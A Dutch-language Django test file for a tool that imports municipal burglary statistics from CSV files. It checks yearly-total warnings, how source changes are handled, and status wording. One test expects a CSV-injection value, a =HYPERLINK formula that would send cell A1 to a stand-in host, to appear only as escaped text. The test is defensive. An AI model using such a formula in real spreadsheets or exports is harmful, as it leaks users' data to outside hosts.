            "120. Jaarcijfer uit dit bestand, maanden al in het dashboard.</li>",
            html=True,
        )
        self.assertContains(
            response, "1 jaarcijfer is niet gelijk aan de som van de twaalf maanden"
        )
        self.assertContains(response, ">Importeren</button>")
        self.client.post(import_.get_absolute_url())
        self.assertEqual(
            Cijfer.objects.get(
                gebied__slug="baarn", categorie__slug="woninginbraken", periode="2024"
            ).waarde,
            41,
        )
        # Na de import staat de waarschuwing er nog (hetzelfde bestand, nu opgeslagen).
        self.assertContains(self.client.get(import_.get_absolute_url()), 'id="jaar-maanden"')

    def test_gelijk_geen_waarschuwing(self):
        self.client.force_login(self.gebruikers["adviseur_baarn"])
        upload(self.client, ib.sjabloon_csv([["Baarn", "woninginbraken", 2024, 2024, 120, "", ""]]))
        response = self.client.get(Import.objects.latest("pk").get_absolute_url())
        self.assertContains(response, "Dit is een voorbeeld")
        self.assertNotContains(response, 'id="jaar-maanden"')


class AndereBronTest(TestCase):
    """Proefgebruiker, punt 11 (laatste punt): hetzelfde cijfer opnieuw met alleen een andere
    bron blijft ongewijzigd, en het voorbeeld zegt dat de oude bron blijft."""

    @classmethod
    def setUpTestData(cls):
        cls.gebruikers, _ = brondata_en_adviseur()

    def test_c03_dan_c11_zegt_dat_de_bron_blijft(self):
        self.client.force_login(self.gebruikers["adviseur_soest"])
        c03 = "c03_sjabloon_excel_lege_puntkommarijen.csv"
        upload(self.client, (CASUSSEN / c03).read_bytes(), naam=c03)
        eerste = Import.objects.latest("pk")
        self.client.post(eerste.get_absolute_url())
        c11 = "c11_sjabloon_bron_als_formule.csv"
        upload(self.client, (CASUSSEN / c11).read_bytes(), naam=c11)
        tweede = Import.objects.latest("pk")
        self.assertEqual(tweede.tellingen()["ongewijzigd"], 1)
        response = self.client.get(tweede.get_absolute_url())
        self.assertContains(
            response,
            f"1 cijfer gelijk, bron blijft <q>Import {eerste.pk}: {c03}</q> (het bestand noemt "
            "<q>=HYPERLINK(&quot;http://voorbeeld.invalid/?d=&quot;&amp;A1;&quot;bron&quot;)</q>).",
        )
        self.assertContains(response, "Er is niets te importeren")
        soest = Cijfer.objects.select_related("bron").get(
            gebied__slug="soest", categorie__slug="woninginbraken", jaar=2024
        )
        self.assertEqual((soest.waarde, soest.bron.titel), (52, f"Import {eerste.pk}: {c03}"))

    def test_zonder_bron_in_het_bestand_niets_te_melden(self):
        self.client.force_login(self.gebruikers["adviseur_soest"])
        rij = ["Soest", "woninginbraken", 2024, 2024, 52, "", ""]
        upload(self.client, ib.sjabloon_csv([rij]))
        self.client.post(Import.objects.latest("pk").get_absolute_url())
        upload(self.client, ib.sjabloon_csv([rij]))  # zelfde bestand, nieuwe importbron
        opnieuw = Import.objects.latest("pk")
        self.assertEqual(opnieuw.voorbeeld["bron_blijft"], [])
        self.assertNotContains(self.client.get(opnieuw.get_absolute_url()), "bron blijft")


class WoordkeuzeTest(TestCase):
    """Proefgebruiker, punt 16: de jaren per gebied zijn de geschreven jaren, en een voorbeeld
    zonder iets te importeren heet in de lijst zo."""

    @classmethod
    def setUpTestData(cls):
        cls.gebruikers, _ = brondata_en_adviseur()

    def setUp(self):
        self.client.force_login(self.gebruikers["adviseur_baarn"])

    def test_jaren_per_gebied_zonder_het_afgewezen_jaar(self):
        rij = ["Baarn", "woninginbraken", 2024, 2024, 39, "", ""]  # synthetisch, definitief
        upload(self.client, ib.sjabloon_csv([rij]))
        self.client.post(Import.objects.latest("pk").get_absolute_url())
        # c02: 2023 en 2025* komen erbij, 2024** wordt afgewezen (definitief wint).
        c02 = "c02_label_nader_voorlopig_dubbel_sterretje.csv"
        upload(self.client, (CASUSSEN / c02).read_bytes(), naam=c02)
        import_ = Import.objects.latest("pk")
        self.assertEqual(import_.tellingen()["toegevoegd"], 2)
        response = self.client.get(import_.get_absolute_url())
        self.assertContains(
            response,
            '<tr><td>Baarn</td><td>2023, 2025</td><td class="tabular">2</td>'
            '<td class="tabular">0</td></tr>',
            html=True,
        )
        self.assertContains(response, "<code>38</code>", html=True)
        self.assertNotContains(response, "<code>38*</code>")

    def test_voorbeeld_zonder_iets_te_importeren_heet_zo_in_de_lijst(self):
        rij = ["Baarn", "woninginbraken", 2024, 2024, 39, "", ""]
        upload(self.client, ib.sjabloon_csv([rij]))
        self.client.post(Import.objects.latest("pk").get_absolute_url())
        upload(self.client, ib.sjabloon_csv([rij]))  # alles ongewijzigd
        upload(
            self.client, ib.sjabloon_csv([["Atlantis", "woninginbraken", 2024, 2024, 1, "", ""]])
        )
        upload(self.client, ib.sjabloon_csv([["Soest", "autokraak", 2024, 2024, 1, "", ""]]))
        html = self.client.get(URL).content.decode()
        lijst = html.split('id="kop-imports"')[1]
        statussen = re.findall(r"<td>([^<]*)</td>\s*<td class=\"tabular\">", lijst)
        self.assertEqual(
            statussen,
            [
                "Voorbeeld, nog niet bevestigd",
                "Voorbeeld: alleen afgewezen rijen",
                "Niets te importeren",
                "Uitgevoerd",
            ],
        )
